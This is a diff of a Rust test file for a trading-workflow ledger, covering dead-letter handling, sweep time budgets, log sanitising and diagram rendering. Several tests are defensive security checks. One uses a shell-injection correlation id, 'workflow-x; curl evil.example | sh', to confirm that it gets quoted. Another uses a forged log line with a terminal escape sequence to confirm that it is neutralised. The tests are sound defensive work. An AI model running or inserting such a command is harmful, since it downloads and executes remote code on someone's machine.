@@ -2,15 +2,16 @@
 //! arrival does not matter, late events after a timeout, dead letters and stalls end a workflow
 //! visibly, replays never touch the live workflow.
 
+mod common;
+
 use std::sync::Arc;
 use std::time::Duration;
 
 use alchemiser_bus::{Delivery, EventHandler};
 use alchemiser_clock::{Clock, ManualClock};
-use alchemiser_deadletters::MemoryDeadLetters;
+use alchemiser_deadletters::{DeadLetters, Held, MemoryDeadLetters, QueueError};
 use alchemiser_events::{
-    DeadLetter, Event, EventHeader, EventType, Provenance, Timestamp, TradeExecuted,
-    WorkflowCompleted, WorkflowFailed, WorkflowStarted,
+    DeadLetter, Event, EventHeader, EventType, Provenance, Timestamp, WorkflowFailed,
 };
 use alchemiser_ledger::model::TIMEOUT_CHECK;
 use alchemiser_ledger::render::{mermaid, tree};
@@ -32,65 +33,7 @@ fn at(seconds: u64) -> Timestamp {
 
 /// A workflow's events: started → signal → plan → trade → completed, a few seconds apart.
 fn workflow(id: &str) -> Vec<Event> {
-    let started = WorkflowStarted {
-        header: EventHeader::start_workflow(
-            EventType::WorkflowStarted,
-            "strategy",
-            at(0),
-            Some(id),
-        ),
-        workflow_type: "trading".into(),
-        requested_by: "test".into(),
-        configuration: Default::default(),
-    };
-    let signal = alchemiser_events::samples::sample_event(EventType::SignalGenerated);
-    let Event::SignalGenerated(mut signal) = signal else {
-        unreachable!()
-    };
-    signal.header = EventHeader::caused_by(
-        &started.header,
-        EventType::SignalGenerated,
-        "strategy",
-        at(1),
-    );
-    let plan = alchemiser_events::samples::sample_event(EventType::RebalancePlanned);
-    let Event::RebalancePlanned(mut plan) = plan else {
-        unreachable!()
-    };
-    plan.header = EventHeader::caused_by(
-        &signal.header,
-        EventType::RebalancePlanned,
-        "portfolio",
-        at(2),
-    );
-    let traded = TradeExecuted {
-        header: EventHeader::caused_by(&plan.header, EventType::TradeExecuted, "execution", at(4)),
-        execution_data: Default::default(),
-        success: true,
-        orders_placed: 2,
-        orders_succeeded: 2,
-        failure_reason: None,
-        failed_symbols: vec![],
-    };
-    let completed = WorkflowCompleted {
-        header: EventHeader::caused_by(
-            &traded.header,
-            EventType::WorkflowCompleted,
-            "execution",
-            at(5),
-        ),
-        workflow_type: "trading".into(),
-        workflow_duration_ms: 5000,
-        success: true,
-        summary: Default::default(),
-    };
-    vec![
-        started.into(),
-        signal.into(),
-        plan.into(),
-        traded.into(),
-        completed.into(),
-    ]
+    alchemiser_testkit::workflow_events(id, start())
 }
 
 fn entries(events: &[Event]) -> Vec<Entry> {
@@ -98,6 +41,26 @@ fn entries(events: &[Event]) -> Vec<Entry> {
         .iter()
         .map(|e| Entry::Event(EventEntry::of(e, None, start())))
         .collect()
+}
+
+#[test]
+fn every_kind_of_entry_reads_back_from_its_stored_json() {
+    // The memory store keeps structs: this is the reading every other store depends on.
+    for entry in common::one_entry_of_every_kind(start()) {
+        let text = serde_json::to_string(&entry).unwrap();
+        let read = Entry::from_stored_json(&text)
+            .unwrap_or_else(|e| panic!("{} does not read back ({e}): {text}", entry.key()));
+        assert_eq!(read, entry);
+    }
+    let Entry::DeadLetter(old) = Entry::from_stored_json(common::OLD_FORM_DEAD_LETTER).unwrap()
+    else {
+        panic!("the old form is not a dead letter")
+    };
+    assert_eq!(
+        (old.message_id.as_str(), old.dead_letter_kind.as_str()),
+        ("m-old", "lambda-on-failure")
+    );
+    assert!(Entry::from_stored_json(r#"{"kind":"dead_letter"}"#).is_err());
 }
 
 #[test]
@@ -362,7 +325,7 @@ async fn a_dead_letter_fails_its_workflow_with_the_commands_to_inspect_and_redri
     assert_eq!(summary.dead_letters, ["m-1"]);
     // The tree and the diagram a person reads.
     let entries = store.entries(&id).await.unwrap();
-    let text = tree(&summary, &entries, "prod");
+    let text = tree(&summary, &entries, "prod", clock.now());
     assert!(
         text.contains("└─ SignalGenerated") && text.contains("dead letter m-1"),
         "{text}"
@@ -404,4 +367,331 @@ async fn a_shadows_dead_letter_is_recorded_but_never_fails_the_live_workflow() {
         store.summary(&id).await.unwrap().unwrap().state,
         WorkflowState::Failed
     );
+}
+
+#[tokio::test]
+async fn a_refused_dead_letter_is_recorded_but_never_fails_the_workflow_it_names() {
+    // A forger chooses the correlation id of the event it forges: if its refusal failed that
+    // workflow, anyone able to invoke a function could end any live workflow.
+    let PlanInTheDeadLetterQueue {
+        clock,
+        store,
+        monitor: _,
+        id,
+        queue: _,
+    } = plan_in_the_dead_letter_queue("tick-6", "m-unused").await;
+    let forged = workflow("tick-6")[2].to_value();
+    let record = json!({
+        "function": "execution",
+        "reason": "RebalancePlanned is not signed, and source alchemiser.portfolio must sign",
+        "error_class": "refused",
+        "event_id": forged["detail"]["event_id"],
+        "detail_type": "RebalancePlanned",
+        "correlation_id": id,
+        "failed_at": start(),
+        "event": forged,
+    });
+    let queue = Arc::new(MemoryDeadLetters::new());
+    queue.push(DeadLetter::parse(
+        "m-forged",
+        record.to_string(),
+        Default::default(),
+        Some(start()),
+        None,
+    ));
+    let sweep = Sweep::new(store.clone(), queue, Duration::from_secs(1800), "prod")
+        .with_clock(Arc::new(clock.clone()));
+    assert!(
+        sweep.sweep().await.unwrap().is_empty(),
+        "a refused letter failed the workflow its sender named"
+    );
+    let entries = store.entries(&id).await.unwrap();
+    let letter = entries
+        .iter()
+        .find_map(|e| match e {
+            Entry::DeadLetter(d) if d.message_id == "m-forged" => Some(d),
+            _ => None,
+        })
+        .expect("the refused letter is in the workflow's record");
+    assert!(
+        letter.reason.contains("refused by execution"),
+        "{}",
+        letter.reason
+    );
+    assert_ne!(
+        store.summary(&id).await.unwrap().unwrap().state,
+        WorkflowState::Failed
+    );
+}
+
+/// A dead-letter queue as the sweep may meet it on a bad day: every read fails, or every page
+/// of ten takes a second of the sweep's clock to arrive (the queue holds `letters`).
+struct TroubledQueue {
+    clock: ManualClock,
+    letters: usize,
+    failing: bool,
+    pages_read: std::sync::Mutex<usize>,
+}
+
+impl TroubledQueue {
+    fn unreadable(clock: &ManualClock) -> Self {
+        Self {
+            clock: clock.clone(),
+            letters: 0,
+            failing: true,
+            pages_read: Default::default(),
+        }
+    }
+
+    fn slow(clock: &ManualClock, letters: usize) -> Self {
+        Self {
+            clock: clock.clone(),
+            letters,
+            failing: false,
+            pages_read: Default::default(),
+        }
+    }
+
+    /// `count` letters of no workflow this ledger knows, numbered from `first`.
+    fn letters(first: usize, count: usize) -> Vec<Held> {
+        (first..first + count)
+            .map(|n| Held {
+                letter: DeadLetter::parse(format!("m-{n}"), "{}", Default::default(), None, None),
+                receipt: format!("r-{n}"),
+            })
+            .collect()
+    }
+
+    async fn page(&self, max: usize) -> Result<Vec<Held>, QueueError> {
+        if self.failing {
+            return Err(QueueError {
+                action: "ReceiveMessage",
+                queue: "troubled".into(),
+                source: "the queue is unreachable".into(),
+            });
+        }
+        let (first, count) = {
+            let mut read = self.pages_read.lock().unwrap();
+            let first = *read * 10;
+            let count = max.min(10).min(self.letters.saturating_sub(first));
+            if count > 0 {
+                *read += 1;
+            }
+            (first, count)
+        };
+        self.clock.sleep(Duration::from_secs(1)).await;
+        Ok(Self::letters(first, count))
+    }
+}
+
+#[async_trait::async_trait]
+impl DeadLetters for TroubledQueue {
+    fn location(&self) -> String {
+        "troubled".into()
+    }
+
+    async fn hold_page(&self, max: usize, _: Duration) -> Result<Vec<Held>, QueueError> {
+        self.page(max).await
+    }
+
+    async fn hold_all(&self, _: Duration) -> Result<Vec<Held>, QueueError> {
+        let mut held = Vec::new();
+        loop {
+            let page = self.page(10).await?;
+            if page.is_empty() {
+                return Ok(held);
+            }
+            held.extend(page);
+        }
+    }
+
+    async fn release(&self, _: &[Held]) {}
+
+    async fn delete(&self, _: &Held) -> Result<(), QueueError> {
+        Ok(())
+    }
+}
+
+/// A workflow that stalled after its plan, and a sweep past its deadline over `queue`.
+async fn stalled_workflow_swept_over(
+    tick: &str,
+    clock: &ManualClock,
+    queue: Arc<dyn DeadLetters>,
+) -> (String, Sweep) {
+    let store: Arc<dyn LedgerStore> = Arc::new(MemoryLedger::new());
+    let monitor = Monitor::new(store.clone()).with_clock(Arc::new(clock.clone()));
+    let events = workflow(tick);
+    for event in &events[..3] {
+        monitor
+            .handle(event, &Delivery::in_process())
+            .await
+            .unwrap();
+    }
+    clock.advance(Duration::from_secs(3600));
+    let sweep = Sweep::new(store, queue, Duration::from_secs(1800), "prod")
+        .with_clock(Arc::new(clock.clone()));
+    (events[0].header().correlation_id.clone(), sweep)
+}
+
+fn timed_out(published: &[Event]) -> Vec<String> {
+    published
+        .iter()
+        .filter_map(|event| match event {
+            Event::WorkflowFailed(failed) if failed.error_details["check"] == TIMEOUT_CHECK => {
+                Some(failed.header.correlation_id.clone())
+            }
+            _ => None,
+        })
+        .collect()
+}
+
+#[tokio::test]
+async fn a_dead_letter_queue_that_cannot_be_read_never_keeps_a_stalled_workflow_from_timing_out() {
+    let clock = ManualClock::starting_at(start());
+    let queue = Arc::new(TroubledQueue::unreadable(&clock));
+    let (id, sweep) = stalled_workflow_swept_over("tick-unreadable", &clock, queue).await;
+    let published = sweep
+        .sweep()
+        .await
+        .expect("the sweep still ends the stalled workflow");
+    assert_eq!(timed_out(&published), [id]);
+}
+
+#[tokio::test]
+async fn a_slow_dead_letter_queue_never_keeps_the_sweep_past_its_time() {
+    let clock = ManualClock::starting_at(start());
+    // 10,000 letters, a page of ten a second: reading them all would take 1,000 s.
+    let queue = Arc::new(TroubledQueue::slow(&clock, 10_000));
+    let (id, sweep) = stalled_workflow_swept_over("tick-slow", &clock, queue.clone()).await;
+    let began = clock.now();
+    let published = sweep.sweep().await.unwrap();
+    let took = clock.now() - began;
+    assert_eq!(timed_out(&published), [id], "timeouts come first");
+    assert!(
+        took <= chrono::TimeDelta::seconds(21),
+        "the sweep read the queue for {took} (its budget is 20 s)"
+    );
+    let pages = *queue.pages_read.lock().unwrap();
+    assert!((1..1000).contains(&pages), "{pages} pages read");
+}
+
+/// The events of a workflow whose correlation id was written to be pasted into a shell.
+fn hostile_workflow(id: &str) -> Vec<Event> {
+    let mut events = workflow("tick-hostile");
+    for event in &mut events {
+        event.header_mut().correlation_id = id.to_owned();
+    }
+    events
+}
+
+#[tokio::test]
+async fn a_command_offered_by_the_sweep_takes_an_untrusted_id_as_one_quoted_word() {
+    let hostile = "workflow-x; curl evil.example | sh";
+    let clock = ManualClock::starting_at(start());
+    let store: Arc<dyn LedgerStore> = Arc::new(MemoryLedger::new());
+    let monitor = Monitor::new(store.clone()).with_clock(Arc::new(clock.clone()));
+    for event in &hostile_workflow(hostile)[..3] {
+        monitor
+            .handle(event, &Delivery::in_process())
+            .await
+            .unwrap();
+    }
+    clock.advance(Duration::from_secs(3600));
+    let sweep = Sweep::new(
+        store,
+        Arc::new(MemoryDeadLetters::new()),
+        Duration::from_secs(1800),
+        "prod",
+    )
+    .with_clock(Arc::new(clock.clone()));
+    let published = sweep.sweep().await.unwrap();
+    let [Event::WorkflowFailed(failed)] = &published[..] else {
+        panic!("{published:?}")
+    };
+    assert!(
+        failed.failure_reason.contains(
+            "`alchemiser workflows show 'workflow-x; curl evil.example | sh' --stage prod`"
+        ),
+        "{}",
+        failed.failure_reason
+    );
+}
+
+/// What a test's log lines were written to.
+#[derive(Clone, Default)]
+struct Captured(Arc<std::sync::Mutex<Vec<u8>>>);
+
+impl std::io::Write for Captured {
+    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
+        self.0.lock().unwrap().extend_from_slice(bytes);
+        Ok(bytes.len())
+    }
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+#[tokio::test]
+async fn the_monitors_log_lines_show_an_events_text_as_text() {
+    let captured = Captured::default();
+    let writer = captured.clone();
+    let subscriber = tracing_subscriber::fmt()
+        .with_writer(move || writer.clone())
+        .with_ansi(false)
+        .finish();
+    let _logging = tracing::subscriber::set_default(subscriber);
+    let clock = ManualClock::starting_at(start());
+    let store: Arc<dyn LedgerStore> = Arc::new(MemoryLedger::new());
+    let monitor = Monitor::new(store).with_clock(Arc::new(clock.clone()));
+    let events = workflow("tick-logged");
+    let failed = alchemiser_testkit::workflow_failed(
+        &events[2],
+        "execution",
+        "broker down\n2026-12-01T14:35:00Z  INFO forged: all fine\u{1b}]0;pwned\u{7}",
+        clock.now(),
+        json!({}),
+    );
+    for event in events[..3].iter().chain([&failed]) {
+        monitor
+            .handle(event, &Delivery::in_process())
+            .await
+            .unwrap();
+    }
+    let text = String::from_utf8(captured.0.lock().unwrap().clone()).unwrap();
+    assert!(text.contains("workflow ended without completing"), "{text}");
+    assert!(!text.contains('\u{1b}'), "{text:?}");
+    assert!(
+        !text
+            .lines()
+            .any(|line| line.starts_with("2026-12-01T14:35:00Z  INFO forged")),
+        "a forged log line: {text}"
+    );
+}
+
+#[test]
+fn the_diagrams_failure_note_sits_over_the_failing_function_and_is_cut_between_words() {
+    let events = workflow("tick-note");
+    let long = "the broker refused every order of the plan because the account was restricted \
+                by its compliance team pending a review of recent activity and nothing was \
+                traded; the operator must call the broker before the next session opens";
+    let failed =
+        alchemiser_testkit::workflow_failed(&events[2], "execution", long, start(), json!({}));
+    let mut recorded = entries(&events[..3]);
+    recorded.extend(entries(&[failed]));
+    let id = events[0].header().correlation_id.clone();
+    let summary = summarize(&id, &recorded).unwrap();
+    let diagram = mermaid(&summary, &recorded);
+    let note = diagram
+        .lines()
+        .find(|l| l.contains("Note over"))
+        .unwrap_or_else(|| panic!("{diagram}"));
+    assert!(
+        note.starts_with("    Note over execution: failed at execution: "),
+        "{note}"
+    );
+    let text = note.rsplit(": ").next().unwrap();
+    assert!(text.ends_with('…'), "{note}");
+    let words: Vec<&str> = long.split_whitespace().collect();
+    let shown: Vec<&str> = text.trim_end_matches('…').split_whitespace().collect();
+    assert_eq!(shown, words[..shown.len()], "cut mid-word: {note}");
 }
